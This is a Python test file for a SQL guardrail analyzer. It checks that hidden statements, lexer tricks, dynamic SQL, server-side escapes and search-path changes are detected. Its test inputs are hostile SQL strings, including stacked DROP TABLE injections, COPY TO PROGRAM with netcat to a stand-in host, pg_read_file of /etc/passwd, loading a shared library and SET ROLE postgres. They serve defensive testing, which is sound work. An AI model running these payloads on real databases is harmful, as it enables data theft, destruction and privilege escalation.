"""Ways of hiding a statement from a guardrail (SECURITY.md items 7 to 13): each one must
leave the hidden statement, table or function visible in the analysis."""

from __future__ import annotations

import pytest

from bastion.sql.analyze import analyze

from .helpers import names, one


def kinds(sql: str) -> list[str]:
    return [info.kind for info in analyze(sql)]


# 7. several statements in one message
@pytest.mark.parametrize(
    ("sql", "expected"),
    [
        ("SELECT 1; DROP TABLE t", ["select", "drop_table"]),
        ("SELECT 1;DROP TABLE t;", ["select", "drop_table"]),
        ("BEGIN; DELETE FROM t; COMMIT", ["transaction", "delete", "transaction"]),
        ("SELECT 1;\n\n-- trailing\nTRUNCATE t", ["select", "truncate"]),
        ("SET x = 1; SET ROLE admin", ["set", "set_role"]),
    ],
)
def test_several_statements(sql: str, expected: list[str]) -> None:
    assert kinds(sql) == expected


def test_statement_texts_are_split_exactly() -> None:
    infos = analyze("SELECT 'é;' ; DROP TABLE \"tàble\"")
    assert [info.text for info in infos] == ["SELECT 'é;'", 'DROP TABLE "tàble"']
    assert names(infos[1].tables_written) == {"tàble"}


# 8. comments, quoting and lexer tricks
@pytest.mark.parametrize(
    "sql",
    [
        "/* x */ DROP TABLE t",
        "/* nested /* comment */ still */ DROP TABLE t",
        "-- x\nDROP TABLE t",
        "DROP/**/TABLE/**/t",
        "DrOp TaBlE T",
        '/* SELECT 1; */ DROP TABLE "t"',
    ],
)
def test_comments_do_not_hide_statements(sql: str) -> None:
    info = one(sql)
    assert info.kind == "drop_table"
    assert names(info.tables_written) == {"t"}


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT $$ ; DROP TABLE t; $$",
        "SELECT $tag$ DROP TABLE t $tag$",
        "SELECT E'\\'; DROP TABLE t; --'",
        "SELECT 'it''s; DROP TABLE t'",
        "SELECT U&'\\0044ROP TABLE t'",
        'SELECT 1 AS "; DROP TABLE t"',
        "SELECT '-- ; DROP TABLE t'",
        "SELECT '/*'; SELECT '*/'",
    ],
)
def test_strings_containing_statements_are_not_statements(sql: str) -> None:
    infos = analyze(sql)
    assert all(info.kind == "select" for info in infos)
    assert all(info.tables_written == () for info in infos)


def test_unicode_escaped_identifiers() -> None:
    info = one('DELETE FROM U&"\\0074"')
    assert names(info.tables_written) == {"t"}


# 9. dynamic SQL
def test_prepare_and_execute() -> None:
    prepare, execute = analyze("PREPARE s AS DELETE FROM t; EXECUTE s")
    assert prepare.kind == "prepare"
    assert not prepare.dynamic_sql
    (inner,) = prepare.inner
    assert inner.kind == "delete"
    assert inner.text == "DELETE FROM t"
    assert names(prepare.tables_written) == {"t"}
    assert execute.kind == "execute"


def test_prepare_with_parameters() -> None:
    info = one("PREPARE s (int, text) AS UPDATE t SET a = $2 WHERE id = $1")
    assert info.inner[0].kind == "update"
    assert info.inner[0].has_where is True
    assert info.inner[0].text == "UPDATE t SET a = $2 WHERE id = $1"


def test_explain_and_declare_show_their_statement() -> None:
    info = one("EXPLAIN (ANALYZE, VERBOSE) DELETE FROM t")
    assert [inner.kind for inner in info.inner] == ["delete"]
    assert info.inner[0].text == "DELETE FROM t"
    assert "explain_analyze" in info.flags
    info = one("DECLARE c BINARY CURSOR WITH HOLD FOR SELECT ssn FROM people")
    assert info.inner[0].text == "SELECT ssn FROM people"
    assert names(info.tables_read) == {"people"}


def test_explain_of_a_parenthesized_query() -> None:
    info = one("EXPLAIN (SELECT 1 FROM a) UNION (SELECT 1 FROM b)")
    assert info.inner[0].text == "(SELECT 1 FROM a) UNION (SELECT 1 FROM b)"
    assert names(info.tables_read) == {"a", "b"}


def test_do_blocks() -> None:
    assert one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$").dynamic_sql
    info = one("DO $$ BEGIN DROP TABLE t; END $$")
    assert info.inner[0].kind == "drop_table"
    assert names(info.tables_written) == {"t"}


# 10. server-side escapes
@pytest.mark.parametrize(
    ("sql", "flag"),
    [
        ("COPY t TO PROGRAM 'nc evil 9'", "copy_program"),
        ("COPY t FROM PROGRAM 'id'", "copy_program"),
        ("COPY t FROM '/etc/passwd'", "copy_server_file"),
        ("SELECT * FROM (SELECT (SELECT pg_read_file('/etc/passwd'))) x", "server_file_function"),
        ("SELECT 1 WHERE EXISTS (SELECT pg_ls_dir('/'))", "server_file_function"),
        ("WITH f AS (SELECT pg_read_binary_file('x')) SELECT * FROM f", "server_file_function"),
        ("SELECT lo_import('/etc/passwd')", "large_object_function"),
        ("SELECT lo_export(16385, '/tmp/x')", "large_object_function"),
        ("SELECT dblink_exec('dbname=postgres', 'DROP TABLE t')", "dblink"),
        ("SELECT * FROM dblink('host=x', 'SELECT 1') AS r(a int)", "dblink"),
        (
            "CREATE SERVER loop FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'x')",
            "foreign_server",
        ),
        (
            "CREATE USER MAPPING FOR CURRENT_USER SERVER loop OPTIONS (user 'postgres')",
            "foreign_server",
        ),
        ("ALTER SYSTEM SET archive_command = 'sh -c id'", "alter_system"),
        ("SET ROLE postgres", "set_role"),
        ("SET SESSION AUTHORIZATION postgres", "session_authorization"),
        ("RESET ROLE", "set_role"),
        ("SELECT set_config('role', 'postgres', false)", "set_config_role"),
        ("SELECT set_config($1, 'postgres', false)", "set_config_dynamic"),
        (
            "CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS 'SELECT 1'",
            "security_definer",
        ),
        ("LOAD '/tmp/evil.so'", "load"),
        ("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", "server_file_function"),
        ("PREPARE p AS SELECT pg_read_file('/etc/passwd')", "server_file_function"),
        ("EXPLAIN ANALYZE SELECT lo_import('/etc/passwd')", "large_object_function"),
    ],
)
def test_server_side_escapes_are_flagged(sql: str, flag: str) -> None:
    info = one(sql)
    assert flag in info.flags


# 11. extended protocol: parameters analyze like literals
def test_parameters() -> None:
    info = one("UPDATE accounts SET balance = balance + $1 WHERE id = $2 RETURNING $3::text")
    assert info.kind == "update"
    assert info.has_where is True
    assert not info.where_always_true
    assert names(info.tables_written) == {"accounts"}


# 12. search path and name tricks
def test_search_path_changes_are_flagged() -> None:
    for sql in (
        "SET search_path = evil",
        "SET LOCAL search_path TO evil, public",
        "SELECT set_config('search_path', 'evil', true)",
        "ALTER ROLE CURRENT_USER SET search_path = evil",
    ):
        assert "search_path" in one(sql).flags, sql


def test_schema_and_case_are_kept_apart() -> None:
    info = one('SELECT * FROM public."Customers" c JOIN PUBLIC.CUSTOMERS d ON c.id = d.id')
    assert names(info.tables_read) == {"public.Customers", "public.customers"}


# 13. what the analyzer does not understand
def test_garbage_is_unknown() -> None:
    (info,) = analyze("DROP TABLE t; SELEKT everything")
    assert info.kind == "unknown"
    assert info.error


def test_evasion_inside_a_cte() -> None:
    info = one("WITH x AS (DELETE FROM t RETURNING *) SELECT 1")
    assert info.modifying_cte
    assert names(info.tables_written) == {"t"}
    assert info.inner[0].kind == "delete"
    assert info.inner[0].has_where is False
